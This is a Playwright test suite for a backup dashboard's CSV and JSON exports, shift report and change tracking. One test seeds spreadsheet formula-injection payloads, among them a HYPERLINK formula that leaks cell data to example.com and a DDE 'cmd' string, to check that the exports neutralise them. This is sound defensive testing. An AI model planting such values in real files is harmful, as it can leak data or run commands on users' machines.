import { readFile } from 'node:fs/promises';
import { BROKEN, expect, LARGE, PROJECT, REFUSED, test } from './demo.mjs';
import { extent, figures, grouped, ids, links, notices, open, openWhole, search, settled, stopClock, verdict } from './lens.mjs';
import { about, causes, essence, kind, lastDay, minute, moment, SHOWN, span, inProgress, volumes } from './tally.mjs';

const COLUMNS = [
  'id', 'name', 'status', 'fail_reason', 'volume_id', 'volume_name', 'is_incremental', 'size', 'object_count', 'data_timestamp', 'created_at',
  'updated_at', 'availability_zone', 'container', 'snapshot_id', 'has_dependent_backups', 'description', 'project_id', 'user_id',
  'encryption_key_id', 'metadata', 'as_of', 'extent', 'filters', 'unreadable',
];
/** The service's name for a column, if it differs. */
const KEYS = { project_id: 'os-backup-project-attr:project_id' };
const TIMES = ['data_timestamp', 'created_at', 'updated_at'];
const OWN = COLUMNS.slice(0, -4);

/** Strict RFC 4180: records end in CRLF, quotes enclose whole cells, and inside them they are doubled. */
function readCsv(text, delimiter = ',') {
  const records = [[]];
  const plain = delimiter === ',' ? /[^",\r\n]*/y : /[^";\r\n]*/y;
  let at = 0;
  while (at < text.length) {
    let cell = '';
    const isQuoted = text[at] === '"';
    if (isQuoted) {
      const parts = [];
      do {
        const end = text.indexOf('"', at + 1);
        if (end < 0) throw new Error('a quote that is not closed');
        parts.push(text.slice(at + 1, end));
        at = end + 1;
      } while (text[at] === '"');
      cell = parts.join('"');
    } else {
      plain.lastIndex = at;
      [cell] = plain.exec(text);
      at += cell.length;
    }
    records.at(-1).push({ cell, isQuoted });
    if (text[at] === delimiter) at += 1;
    else if (text.startsWith('\r\n', at)) {
      at += 2;
      records.push([]);
    } else throw new Error(`stray text: ${JSON.stringify(text.slice(at, at + 20))}`);
  }
  if (records.pop().length > 0) throw new Error('the last record has no end');
  return records;
}

/** The name and text of the file saved by `act`, including the byte order mark. */
async function saved(page, act) {
  const [download] = await Promise.all([page.waitForEvent('download'), act()]);
  return { name: download.suggestedFilename(), text: (await readFile(await download.path())).toString('utf8') };
}

async function save(page, name) {
  return saved(page, async () => {
    await page.getByText('Export', { exact: true }).click();
    await page.getByRole('button', { name, exact: true }).click();
  });
}

/** A CSV file's rows as objects; an empty cell without quotes is null. */
function tableOf({ text }, delimiter) {
  expect(text.startsWith('\ufeff')).toBe(true);
  const [head, ...records] = readCsv(text.slice(1), delimiter);
  expect(head.map(({ cell }) => cell)).toEqual(COLUMNS);
  expect(new Set(records.map((record) => record.length))).toEqual(new Set(records.length > 0 ? [COLUMNS.length] : []));
  const value = ({ cell, isQuoted }) => (cell === '' && !isQuoted ? null : cell);
  return records.map((record) => Object.fromEntries(record.map((read, place) => [COLUMNS[place], value(read)])));
}

/** The names of the volumes, by id. */
const named = new Map();
test.beforeEach(async ({ demo }) => {
  for (const where of [{}, LARGE]) for (const [id, { name }] of await demo.volumes(where)) named.set(id, name);
});

/** Technical details of a backup, by a file's names. Times are normalised. */
function fields(row, names = OWN) {
  const value = (name) => {
    const given = (name === 'volume_name' ? (row[name] ?? named.get(row.volume_id)) : row[KEYS[name] ?? name]) ?? null;
    // Empty metadata counts as no metadata.
    if (name === 'metadata') return given && Object.keys(given).length > 0 ? given : null;
    return TIMES.includes(name) ? (moment(given) ?? null) : given;
  };
  return Object.fromEntries(names.map((name) => [name, value(name)]));
}

/** What a spreadsheet would evaluate; a signed number is safe. */
const LEADS = /^[\s\ufeff\0]*([=@＝＋－＠]|[+-](?![\d ,.]*$))/;
/** Without the apostrophe that keeps a spreadsheet from evaluating a text: a text that begins with one gets another. */
const unguarded = (cell) => cell.replace(/^'/, '');

/** The CSV file contains exactly these backups, with everything the service returned. */
function expectCsv(file, backups, { extent, filters, delimiter }) {
  const records = tableOf(file, delimiter);
  const read = (name, cell) => {
    if (cell === null) return null;
    if (TIMES.includes(name)) return moment(cell);
    return name === 'metadata' ? fields({ metadata: JSON.parse(unguarded(cell)) }, [name])[name] : unguarded(cell);
  };
  const text = (name, value) => (value === null || name === 'metadata' || TIMES.includes(name) ? value : String(value));
  const each = (object, of) => Object.fromEntries(Object.entries(object).map(([name, value]) => [name, of(name, value)]));
  const about = { as_of: records[0]?.as_of, extent, filters, unreadable: null };
  expect(records.map((record) => each(record, read))).toEqual(backups.map((row) => ({ ...each(fields(row), text), ...about })));
  return records;
}

function expectJson({ text }, backups, { extent, filters, project = PROJECT }) {
  const { backups: read, as_of: at, ...about } = JSON.parse(text);
  expect(about).toEqual({ project_id: project, filters, extent, count: backups.length });
  expect(new Set(read.map((one) => Object.keys(one).filter((name) => name !== 'volume_name').join()))).toEqual(
    new Set(backups.length > 0 ? [OWN.filter((name) => name !== 'volume_name').map((name) => KEYS[name] ?? name).join()] : []),
  );
  expect(read.map((one) => fields(one))).toEqual(backups.map((row) => fields(row)));
  return at;
}

const NAME = (rows, ending) => new RegExp(`^backups_\\d{8}T\\d{6}Z_${rows}-rows?\\.${ending}$`);

test('a page is saved as CSV and as JSON, as the service gave it', async ({ page, demo, asked }) => {
  const now = await stopClock(page);
  await open(page, '?status=error&sort=size:asc&limit=20&page=2');
  const { backups } = await demo.list('status=error&sort=size:asc&limit=20&offset=20');
  expect(backups).toHaveLength(20);
  asked.clear();
  const about = { extent: 'page 2', filters: 'status:error' };
  const csv = await save(page, 'This page as CSV');
  expect(csv.name).toMatch(NAME(20, 'csv'));
  const [first] = expectCsv(csv, backups, about);
  expect(moment(first.as_of)).toBe(now);
  expect(csv.name).toContain(first.as_of.slice(0, 19).replace(/[-:]/g, ''));
  await expect(page.getByRole('status').last()).toContainText(`Saved ${csv.name}.`);
  const json = await save(page, 'This page as JSON');
  expect(json.name).toMatch(NAME(20, 'json'));
  expect(moment(expectJson(json, backups, about))).toBe(now);
  expect(asked.lists()).toEqual([]);
});

test('a file that the browser does not save is told of where it is seen, until one is saved', async ({ page }) => {
  await page.addInitScript(() => {
    const make = URL.createObjectURL;
    URL.createObjectURL = (blob) => {
      if (window.refuses) throw new Error('refused');
      return make.call(URL, blob);
    };
  });
  await open(page);
  await page.evaluate(() => Object.assign(window, { refuses: true }));
  await page.getByText('Export', { exact: true }).click();
  await page.getByRole('button', { name: 'This page as CSV', exact: true }).click();
  await expect(notices(page)).toHaveText('The browser could not save the file.');
  await page.evaluate(() => Object.assign(window, { refuses: false }));
  await save(page, 'This page as CSV');
  await expect(notices(page)).toHaveCount(0);
});

test('all that match are saved, whichever page is in sight, in its order', async ({ page, demo, asked }) => {
  await open(page, '?status=available&sort=name:desc&limit=10&page=3');
  const sorted = await demo.all('status=available&sort=name:desc');
  const csv = await save(page, 'All that match as CSV');
  expect(csv.name).toMatch(NAME(sorted.length, 'csv'));
  await expect(extent(page)).toHaveCount(0);
  expectCsv(csv, sorted, { extent: 'complete', filters: 'status:available' });
  const before = asked.lists().length;
  expectJson(await save(page, 'All that match as JSON'), sorted, { extent: 'complete', filters: 'status:available' });
  expect(asked.lists().length).toBe(before);
});

test('what a search over the whole project found is saved as it stands', async ({ page, demo }) => {
  await openWhole(page, '?q=is%3Afailed%20-name%3Atest&sort=size:desc');
  const shown = await ids(page);
  const all = new Map((await demo.all()).map((row) => [row.id, row]));
  const backups = shown.map((id) => all.get(id));
  expect(backups.length).toBeGreaterThan(20);
  const about = { extent: 'complete', filters: 'is:failed -name:test' };
  expectCsv(await save(page, 'All that match as CSV'), backups, about);
  expectJson(await save(page, 'All that match as JSON'), backups, about);
  await page.getByText('Export', { exact: true }).click();
  await expect(page.getByRole('button', { name: /as (CSV|JSON)$/ })).toHaveText(['All that match as CSV', 'All that match as JSON']);
});

test('the file of a page and the file of all say the same of a backup', async ({ page }) => {
  await open(page, '?limit=10');
  const read = ({ text }) => JSON.parse(text).backups;
  const [some, all] = [read(await save(page, 'This page as JSON')), read(await save(page, 'All that match as JSON'))];
  expect(some).toHaveLength(10);
  expect(all.slice(0, 10)).toEqual(some);
});

test('no cell of a spreadsheet is run, and no text is lost', async ({ page, demo, add }) => {
  const hostile = [
    '=HYPERLINK("http://example.com/?"&A1,"x")', '+1', '-1+1', '@SUM(A1)', '\t=1', '\r=1', ' \u00a0=1', '＝1', '＋1', '－1', '＠1', 'a;=1;b',
    'a\n=1', 'a\r\n+1', 'a;"=1"', '"', '""', ',', 'plain', ' blanks ', 'ünï 💾', "nightly;=cmd|' /C calc'!A0", "'=1", '-5', '+49 170 1234',
  ];
  for (const name of hostile) await add({ name, description: name, fail_reason: name, status: 'error', container: name, availability_zone: name });
  await open(page, '?limit=1000');
  const { backups } = await demo.list('limit=1000');
  for (const name of hostile) expect(backups.map((row) => row.name)).toContain(name);
  const csv = await save(page, 'This page as CSV');
  expectCsv(csv, backups, { extent: 'page 1', filters: '' });
  const cells = readCsv(csv.text.slice(1)).flat().map(({ cell }) => cell);
  expect(cells).toContain("'=HYPERLINK(\"http://example.com/?\"&A1,\"x\")");
  expect(cells.filter((cell) => LEADS.test(cell))).toEqual([]);
  // Nothing is changed inside a text, or before a number.
  for (const name of ['a;=1;b', 'a\r\n+1', "nightly;=cmd|' /C calc'!A0", '-5', '+49 170 1234']) expect(cells).toContain(name);
  expectJson(await save(page, 'This page as JSON'), backups, { extent: 'page 1', filters: '' });
});

test('semicolons are chosen once, for this browser, and both kinds of file say the same', async ({ page, demo, add }) => {
  for (const name of ['a;b', '=1;2', 'a,b']) await add({ name, status: 'error' });
  await open(page, '?limit=10');
  const { backups } = await demo.list('limit=10');
  const about = { extent: 'page 1', filters: '' };
  expectCsv(await save(page, 'This page as CSV'), backups, about);
  await page.getByText('Export', { exact: true }).click();
  const choice = page.getByRole('combobox', { name: 'CSV delimiter' });
  await expect(choice).toHaveValue('comma');
  await choice.selectOption('semicolon');
  await page.reload();
  await settled(page);
  const file = await save(page, 'This page as CSV');
  expectCsv(file, backups, { ...about, delimiter: ';' });
  expectCsv(await save(page, 'All that match as CSV'), await demo.all(), { extent: 'complete', filters: '', delimiter: ';' });
});

test.describe('of less than the whole', () => {
  test.use({ allowed: REFUSED });

  test('rows that cannot be read are in the files as they came', async ({ page, demo }) => {
    await page.goto('./fault/oddrow/?view=backups');
    await settled(page);
    await expect(links(page).first()).toBeVisible();
    const { backups } = await demo.list();
    const { backups: read, extent: told, count } = JSON.parse((await save(page, 'This page as JSON')).text);
    expect([told, count, read.length]).toEqual(['page 1, 2 unreadable rows', 51, 51]);
    expect([read[1].id, read[1].status, read[1].links.length, read[3]]).toEqual([backups[1].id, 7, 2, 7]);
    const records = tableOf(await save(page, 'This page as CSV'));
    expect(records.filter(({ unreadable }) => unreadable !== null)).toHaveLength(2);
    expect([records[1].id, records[1].name, records[1].status]).toEqual([backups[1].id, backups[1].name, null]);
    expect(JSON.parse(records[1].unreadable).status).toBe(7);
    expect([records[3].id, records[3].unreadable]).toEqual([null, '7']);
  });

  test('a file of a partial reading says so', async ({ page, demo }) => {
    await page.route('**/backups/detail?*offset=999&**', (route) => route.fulfill({ status: 403, body: '' }));
    await page.goto('./?q=is%3Afailed');
    await expect(extent(page)).toContainText('partial: 1,000 of 1,200');
    await expect(page.getByRole('button', { name: 'Stop' })).toHaveCount(0);
    const read = (await demo.list('limit=1000')).backups;
    const failed = read.filter((row) => kind(row) === 'failed');
    expectCsv(await save(page, 'All that match as CSV'), failed, { extent: 'partial: 1,000 of 1,200', filters: 'is:failed' });
  });
});

test('thirty thousand backups are in one file', async ({ page, demo }) => {
  await open(page, 'large/');
  const backups = await demo.all('', LARGE);
  const json = await save(page, 'All that match as JSON');
  expect(json.name).toMatch(NAME(30_000, 'json'));
  const read = JSON.parse(json.text);
  expect(read.count).toBe(30_000);
  expect(read.extent).toBe('complete');
  expect(unlike(read.backups, backups)).toBe(-1);
  const csv = await save(page, 'All that match as CSV');
  expect(unlike(tableOf(csv), backups)).toBe(-1);
});

/** Where two long lists of backups differ; -1 if they do not. Showing the difference would take minutes. */
function unlike(some, others) {
  if (some.length !== others.length) return Math.min(some.length, others.length);
  return some.findIndex(({ id }, place) => id !== others[place].id);
}

test('the shift report says what the Overview says', async ({ page, demo }) => {
  const now = await stopClock(page);
  await openWhole(page, '?view=overview&target=50h');
  const rows = await demo.all();
  const all = volumes(rows, now, { hours: 50 });
  const { name, text } = await saved(page, () => page.getByRole('button', { name: 'Shift report' }).click());
  expect(name).toMatch(/^backups_\d{8}T\d+Z_report\.md$/);
  const lines = text.split('\n');
  expect(lines[0]).toBe('# Backup Lens demo');
  expect(text).toContain(`**${await verdict(page).textContent()}**`);
  const exact = `${new Date(now / 1000).toISOString().slice(0, 19).replace('T', ' ')} UTC`;
  expect(text).toContain(`As of ${exact} · complete · 1,200 backups, ${all.length} volumes · project \`${PROJECT}\``);
  const day = lastDay(rows, now);
  expect(text).toContain(
    `In the last 24 h ${day.all} were started: ${day.good} succeeded, ${day.failed} failed, ${day.busy} in progress, ${day.unknown} of unknown result.`,
  );

  const counted = causes(rows, now).sort((a, b) => b.lately - a.lately || b.rows.length - a.rows.length);
  const cells = lines.filter((line) => /^\| \d/.test(line)).map((line) => line.slice(2, -2).split(' | '));
  expect(cells).toHaveLength(counted.length);
  expect(cells.map(([lately, failures]) => [Number(lately), Number(failures)])).toEqual(counted.map(({ lately, rows: { length } }) => [lately, length]));
  for (const [, failures, volumes, first, last, reason] of cells) {
    const template = /^`+ ?(.*?) ?`+/.exec(reason)?.[1] ?? '';
    const cause = counted.find(({ name }) => name === essence(template.replaceAll('\\|', '|').replace(/ …$/, '')));
    expect([failures, volumes, first, last]).toEqual([String(cause.rows.length), String(cause.volumes), minute(cause.first), minute(cause.last)]);
  }

  const list = (heading) => text.split(`## ${heading}\n`)[1].split('\n## ')[0];
  const items = (heading) => list(heading).split('\n').filter((line) => line.startsWith('- '));
  const said = ({ id, lastGood, age, rhythm, streak }) => {
    const good = lastGood === undefined ? 'no recovery point is known' : `last good recovery point ${new Date(lastGood / 1000).toISOString().slice(0, 19).replace('T', ' ')} UTC (${span(age)} ago)`;
    const failed = streak === 0 ? '' : streak === 1 ? ', the last run failed' : `, ${streak} failures in a row`;
    return `- \`${named.get(id)}\` (\`${id}\`): ${good}${rhythm ? `, runs ${rhythm}` : ''}${failed}`;
  };
  for (const [heading, some] of [['No good backup from the last 50 h', all.filter(SHOWN.missed)], ['Later than usual', all.filter(SHOWN.overdue)]]) {
    expect(some.length).toBeGreaterThan(0);
    const shown = items(heading);
    expect([...shown].sort()).toEqual(some.map(said).sort());
  }

  const idsOf = (some) => some.map(({ id }) => id).sort();
  const told = (heading) => items(heading).map((line) => /`([^`]+)`$/.exec(line)[1]).sort();
  const failed = rows.filter((row) => kind(row) === 'failed' && moment(row.created_at) >= now - 24 * 3_600_000_000);
  expect(failed.length).toBe(day.failed);
  expect(told('Failed in the last 24 h')).toEqual(idsOf(failed));
  expect(told('In progress for too long')).toEqual(idsOf(inProgress(rows, now).stuck.map(({ row }) => row)));
  expect(text.endsWith(`<${new URL('?target=50h', demo.url)}>\n`)).toBe(true);
});

test('the shift report can be copied, and is the one that is saved', async ({ page, context }) => {
  await context.grantPermissions(['clipboard-read', 'clipboard-write']);
  await stopClock(page);
  await openWhole(page, '?view=overview');
  await expect(verdict(page)).toContainText('have no good backup');
  await page.getByRole('button', { name: 'Copy report' }).click();
  await expect(page.locator('.saved')).toHaveText('Report copied.');
  const { text } = await saved(page, () => page.getByRole('button', { name: 'Shift report' }).click());
  expect(await page.evaluate(() => navigator.clipboard.readText())).toBe(text);
});

test.describe('since the last visit', () => {
  const part = (page) => page.locator('section').filter({ has: page.getByRole('heading', { name: 'Since the last visit' }) });
  const FIRST = 'First visit in this browser; next time you will see what changed.';
  const NUMBERS = ['new', 'newly-failed', 'recovered', 'vanished'];
  const hours = (count) => new Date(Date.now() - count * 3_600_000).toISOString().replace('Z', '000Z');
  const numbers = async (page) => Object.fromEntries(await Promise.all(NUMBERS.map(async (name) => [name, Number(await figures(page, name).textContent())])));
  const kept = (page) => page.evaluate(() => Object.fromEntries(Object.keys(localStorage).filter((key) => /seen|visit/.test(key)).map((key) => [key.split(':')[1], localStorage[key].slice(0, 29)])));

  /** Makes the stored state of the last visit some hours older. */
  async function age(page, count) {
    await expect.poll(async () => Object.keys(await kept(page))).toContain('seen');
    await page.evaluate(
      ([key, at]) => (localStorage[key] = localStorage[key].replace(/^(\S+) \S+/, `$1 ${at}`)),
      [`backup-lens:seen:${PROJECT}`, hours(count)],
    );
  }

  test('what is new, failed, recovered and vanished is counted and leads to its rows', async ({ page, demo, add, change }) => {
    const { backups: failed } = await demo.list('status=error&limit=3');
    const { backups: good } = await demo.list('status=available&limit=3');
    const gone = await demo.add({ name: 'soon gone' });
    await openWhole(page, '?view=overview');
    await expect(part(page)).toContainText(FIRST);
    await age(page, 5);

    const fresh = await add({ name: 'fresh' });
    const broken = await add({ name: 'fresh and broken', status: 'error' });
    await change(failed[0].id, { status: 'available' });
    await change(failed[1].id, { status: 'creating' });
    await change(good[0].id, { status: 'error_deleting' });
    await demo.remove(gone);
    const expected = { new: 2, 'newly-failed': 2, recovered: 1, vanished: 1 };
    await page.reload();
    await expect(part(page)).toContainText(/UTC, [45] h ago\./);
    expect(await numbers(page)).toEqual(expected);
    await part(page).getByText('Which').first().click();
    await expect(part(page).getByRole('listitem').filter({ visible: true }).getByRole('link')).toHaveCount(2);
    await expect(part(page).getByRole('link', { name: 'fresh and broken' })).toBeVisible();
    await expect(part(page).locator('code')).toHaveText([gone]);

    // A reload continues the same visit.
    await page.reload();
    await expect(part(page)).toContainText(/UTC, [45] h ago\./);
    expect(await numbers(page)).toEqual(expected);

    const rows = { new: [broken, fresh], 'newly-failed': [broken, good[0].id], recovered: [failed[0].id] };
    for (const [name, list] of Object.entries(rows)) {
      await figures(page, name).click();
      await expect.poll(() => search(page)).toBe(`?q=is:${name}`);
      await expect.poll(async () => (await ids(page)).sort()).toEqual([...list].sort());
      await page.goBack();
      await expect(verdict(page)).toBeVisible();
    }
    await openWhole(page, `?q=is%3Anew%20-is%3Anewly-failed`);
    await expect.poll(() => ids(page)).toEqual([fresh]);
  });

  test('“Mark as seen” begins anew, and a refresh counts from there', async ({ page, demo, add }) => {
    await openWhole(page, '?view=overview');
    await age(page, 30);
    await add({ name: 'before' });
    await page.reload();
    await expect(figures(page, 'new')).toHaveText('1');
    await part(page).getByRole('button', { name: 'Mark as seen' }).click();
    await expect(part(page)).toContainText('just now.');
    await expect.poll(() => numbers(page)).toEqual({ new: 0, 'newly-failed': 0, recovered: 0, vanished: 0 });
    await expect(part(page).getByRole('link')).toHaveCount(0);
    await add({ name: 'after', status: 'error' });
    await page.getByRole('button', { name: 'Refresh' }).click();
    await expect.poll(() => numbers(page)).toEqual({ new: 1, 'newly-failed': 1, recovered: 0, vanished: 0 });
    await page.reload();
    await expect.poll(() => figures(page, 'new').allTextContents()).toEqual(['1']);
  });

  test('“Clear history” forgets, also after a reload', async ({ page }) => {
    await openWhole(page, '?view=overview');
    await age(page, 30);
    await page.reload();
    await expect(figures(page, 'new')).toHaveText('0');
    await part(page).getByRole('button', { name: 'Clear history' }).click();
    await expect(part(page)).toContainText(FIRST);
    expect(await kept(page)).toEqual({});
    await page.reload();
    await expect(part(page)).toContainText(FIRST);
  });

  test('a memory that is none is the first visit', async ({ page }) => {
    await openWhole(page, '?view=overview');
    await age(page, 30);
    await page.evaluate((key) => (localStorage[key] += ' nonsense'), `backup-lens:seen:${PROJECT}`);
    await page.reload();
    await expect(verdict(page)).toBeVisible();
    await expect(part(page)).toContainText(FIRST);
  });

  test('a browser without room says that it keeps nothing', async ({ page }) => {
    await page.addInitScript(() => {
      const set = Storage.prototype.setItem;
      Storage.prototype.setItem = function (key, text) {
        if (key.includes(':seen:')) throw new DOMException('full', 'QuotaExceededError');
        return set.call(this, key, text);
      };
    });
    await openWhole(page, '?view=overview');
    await expect(page.getByText('Cannot save history in this browser')).toBeVisible();
    await expect(verdict(page)).toBeVisible();
  });

  test.describe('partly read', () => {
    test.use({ allowed: REFUSED });

    test('nothing is said to have vanished before the whole project has been read', async ({ page }) => {
      await openWhole(page, '?view=overview');
      await age(page, 30);
      const before = await kept(page);
      await page.route('**/backups/detail?*offset=999&**', (route) => route.fulfill({ status: 403, body: '' }));
      await page.reload();
      await expect(extent(page)).toContainText('partial: 1,000 of 1,200');
      await expect(part(page)).toContainText('Changes will be shown once the whole project has been read.');
      await expect(figures(page, 'vanished')).toHaveCount(0);
      expect(await kept(page)).toEqual(before);
    });
  });
});

test.describe('a file that waits for the whole project', () => {
  test.use({ allowed: REFUSED });
  const waiting = (page) => page.locator('.waiting-file');

  test('says why it is not there when the reading fails, and is saved after Retry', async ({ page, demo }) => {
    await open(page, '?status=error');
    await demo.switch({ fault: '403' });
    await page.getByText('Export', { exact: true }).click();
    await page.getByRole('button', { name: 'All that match as CSV', exact: true }).click();
    await expect(waiting(page)).toContainText('CSV not saved: You are not permitted to list backups in this project');
    await demo.switch({});
    const file = await saved(page, () => waiting(page).getByRole('button', { name: 'Retry' }).click());
    expectCsv(file, await demo.all('status=error'), { extent: 'complete', filters: 'status:error' });
    await expect(waiting(page)).toHaveCount(0);
  });

  test.describe('with a reading that is broken off', () => {
    test.use({ allowed: BROKEN });

    test('says so when the reading is stopped, and what was read can be saved', async ({ page, demo }) => {
      await page.goto('./fault/slow/?view=backups');
      await settled(page);
      await page.getByText('Export', { exact: true }).click();
      await page.getByRole('button', { name: 'All that match as JSON', exact: true }).click();
      await expect(waiting(page)).toContainText(/JSON: waiting for all backups, [\d,]{5,} of 30,000 read/);
      await page.getByRole('button', { name: 'Stop' }).click();
      await expect(waiting(page)).toContainText('JSON not saved: the reading was stopped');
      const part = waiting(page).getByRole('button', { name: /^Save the [\d,]+ read$/ });
      const { text } = await saved(page, () => part.click());
      expect(JSON.parse(text).extent).toMatch(/^partial: [\d,]+ of 30,000$/);
      await expect(waiting(page)).toHaveCount(0);
    });
  });
});
